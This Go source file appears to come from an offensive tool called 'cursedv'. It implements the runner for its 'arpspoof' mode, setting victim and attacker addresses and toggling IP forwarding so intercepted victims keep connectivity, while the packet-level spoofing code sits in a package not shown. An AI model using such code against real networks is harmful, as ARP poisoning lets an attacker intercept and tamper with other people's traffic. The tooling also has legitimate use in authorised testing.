// internal/runner/mode_spoof.go
package runner

import (
	"bufio"
	"context"
	"fmt"
	"log"

	"github.com/vxoid/cursedv/internal/spoof"
)

// runSpoof implements "arpspoof". The attack ends on Enter or when ctx is
// canceled (SIGINT/SIGTERM).
func (r *Runner) runSpoof(ctx context.Context) error {
	targetIP, _ := r.cfg.TargetIP()
	hostIP, _ := r.cfg.HostIP()
	iface := r.interfaceName()

	wait, ok := r.cfg.Wait()
	if !ok {
		r.notice("Since you didn't specify --wait option we will use 0 as default value")
	}

	ch, release, err := r.openChannel(iface)
	if err != nil {
		return err
	}
	defer release()

	if r.cfg.Forward() {
		fwd := spoof.NewForwarding()
		if err := fwd.Enable(); err != nil {
			log.Printf("WARNING: could not enable IP forwarding, the victims will lose connectivity: %v", err)
		} else {
			log.Println("IP forwarding enabled.")
			defer func() {
				if err := fwd.Restore(); err != nil {
					log.Printf("WARNING: could not restore IP forwarding: %v", err)
				} else {
					log.Println("IP forwarding restored.")
				}
			}()
		}
	}

	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	waitForEnter := func() {
		fmt.Fprint(r.env.Stdout, "Press enter to end task:")
		go func() {
			// EOF on stdin leaves only the signals to end the attack.
			if _, err := bufio.NewReader(r.env.Stdin).ReadString('\n'); err == nil {
				cancel()
			}
		}()
	}

	return spoof.Run(ctx, ch, spoof.Params{
		TargetIP:    targetIP,
		HostIP:      hostIP,
		TargetMAC:   r.cfg.TargetMACPtr(),
		HostMAC:     r.cfg.HostMACPtr(),
		AttackerMAC: r.cfg.AttackerMACPtr(),
		Wait:        wait,
		Timeout:     r.cfg.TimeoutPtr(),
		Notice:      r.notice,
		Logf:        log.Printf,
		Started:     waitForEnter,
	})
}
